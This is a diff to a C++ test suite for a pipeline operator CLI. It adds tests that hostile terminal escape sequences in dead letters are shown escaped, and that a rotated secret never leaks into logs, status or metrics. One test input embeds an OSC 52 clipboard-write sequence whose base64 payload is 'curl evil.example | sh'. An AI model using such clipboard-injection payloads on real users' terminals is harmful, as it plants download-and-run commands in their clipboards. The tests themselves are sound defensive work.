@@ -75,7 +75,8 @@ class OperatorCli : public testing::Test {
            "sinks:\n"
            "  - { id: cache, plugin: memory_cache }\n"
            "dead_letter:\n"
-           "  plugin: fake_dead_letters\n"
+           "  plugin: fake_dead_letters\n" +
+           (dead_letter_password_.empty() ? "" : "  config: { password: \"" + dead_letter_password_ + "\" }\n") +
            "api:\n"
            "  - plugin: rest\n"
            "    config:\n"
@@ -160,6 +161,7 @@ class OperatorCli : public testing::Test {
   }
 
   std::filesystem::path dir_;
+  std::string dead_letter_password_;  // fake_dead_letters' secret key, when not empty
   int listen_port_ = 0;
   int admin_port_ = 0;
   std::string admin_url_;
@@ -426,6 +428,31 @@ TEST_F(OperatorCli, DeadLettersListShowReplayDiscard) {
   EXPECT_EQ(letters()["letters"].size(), 3u);
 }
 
+// A letter's bytes came from whoever wrote to the topic: an OSC 52 sequence (which makes many
+// terminals write the clipboard) is shown escaped, never as ESC ... BEL; --raw gives the bytes.
+TEST_F(OperatorCli, DeadLetterShowEscapesTerminalSequencesAndRawGivesTheBytes) {
+  ASSERT_NO_FATAL_FAILURE(start());
+  const std::string hostile = "not json \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07 \x1b[2J\xc2\x9b tail";
+  append({hostile});
+  nlohmann::json all;
+  ASSERT_TRUE(wait_until([&] { return (all = letters())["letters"].size() >= 1; }, 30s)) << run_->err();
+  const std::string id = all["letters"][0]["id"].dump();
+  for (const auto& args : std::vector<std::vector<std::string>>{{"dead-letters", "show", id}, {"dead-letters", "list"}}) {
+    auto shown = cli(args);
+    ASSERT_EQ(shown.code, 0) << shown.err;
+    EXPECT_EQ(shown.out.find('\x1b'), std::string::npos) << args[1] << ": " << shown.out;
+    EXPECT_EQ(shown.out.find('\x07'), std::string::npos) << args[1] << ": " << shown.out;
+    EXPECT_EQ(shown.out.find("\xc2\x9b"), std::string::npos) << args[1] << ": " << shown.out;  // C1 CSI
+  }
+  auto show = cli({"dead-letters", "show", id});
+  EXPECT_NE(show.out.find("payload:\nnot json \\x1B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\\x07 \\x1B[2J"),
+            std::string::npos)
+      << show.out;
+  auto raw = cli({"dead-letters", "show", id, "--raw"});
+  ASSERT_EQ(raw.code, 0) << raw.err;
+  EXPECT_EQ(raw.out, hostile);
+}
+
 TEST_F(OperatorCli, ReloadAppliesAnEditAndRejectsABrokenOneWithItsPlace) {
   ASSERT_NO_FATAL_FAILURE(start());
   write_file(dir_ / "p.yaml", pipeline({.max_bytes = "65536", .rest_extra = ""}));
@@ -456,6 +483,52 @@ TEST_F(OperatorCli, ReloadAppliesAnEditAndRejectsABrokenOneWithItsPlace) {
       },
       30s));
   EXPECT_TRUE(run_->running());
+}
+
+// A rotated credential (fake_dead_letters' `password`, declared secret like postgres' `dsn`)
+// shows in no log line, reload answer, status or metric, and the config hash on /metrics does
+// not move with it (it would be an offline oracle for guesses); a plain edit moves it.
+TEST_F(OperatorCli, ARotatedPasswordAppearsNowhereAndLeavesTheConfigHash) {
+  const std::string fragment = "S3cr3t";
+  const std::string old_password = "0ld-" + fragment + "-Pa55", new_password = "n3w-" + fragment + "-Pa55";
+  dead_letter_password_ = old_password;
+  ASSERT_NO_FATAL_FAILURE(start());
+  auto metrics = [&] {
+    auto r = run({find_on_path("curl"), "-sS", "-H", "Authorization: Bearer " + kReadToken,
+                  "http://127.0.0.1:" + std::to_string(listen_port_) + "/metrics"});
+    EXPECT_EQ(r.code, 0) << r.err;
+    return r.out;
+  };
+  auto config_hash = [](const std::string& text) {
+    std::smatch m;
+    return std::regex_search(text, m, std::regex("sluice_config_info\\{hash=\"([0-9a-f]+)\"\\} 1")) ? m[1].str() : "";
+  };
+  const std::string hash_before = config_hash(metrics());
+  ASSERT_FALSE(hash_before.empty());
+
+  dead_letter_password_ = new_password;
+  write_file(dir_ / "p.yaml", pipeline());
+  auto rotated = cli({"reload"});
+  EXPECT_EQ(rotated.code, 0) << rotated.err;
+  EXPECT_NE(rotated.out.find("password changed"), std::string::npos) << rotated.out;
+  auto status = cli({"status"});
+  auto status_json = cli({"status", "--json"});
+  EXPECT_NE(status.out.find("last reload: #1 applied"), std::string::npos) << status.out;
+  const std::string metrics_after = metrics();
+  EXPECT_EQ(config_hash(metrics_after), hash_before) << "a change of a secret alone must not move the hash";
+  ASSERT_TRUE(wait_until([&] { return run_->err().find("reload #1 applied") != std::string::npos; }, 30s));
+  for (const auto& [where, text] : std::map<std::string, std::string>{{"reload answer", rotated.out + rotated.err},
+                                                                       {"sluice status", status.out + status.err},
+                                                                       {"/admin/status", status_json.out},
+                                                                       {"/metrics", metrics_after},
+                                                                       {"log", run_->err()}}) {
+    EXPECT_EQ(text.find(fragment), std::string::npos) << where << " shows the password:\n" << text;
+  }
+
+  write_file(dir_ / "p.yaml", pipeline({.max_bytes = "65536", .rest_extra = ""}));
+  auto plain = cli({"reload"});
+  EXPECT_NE(plain.out.find("validate.max_bytes 1048576 -> 65536"), std::string::npos) << plain.out;
+  EXPECT_NE(config_hash(metrics()), hash_before) << "a plain edit moves the hash";
 }
 
 TEST_F(OperatorCli, TlsAdminListenerIsCheckedAgainstTheGivenCertificate) {
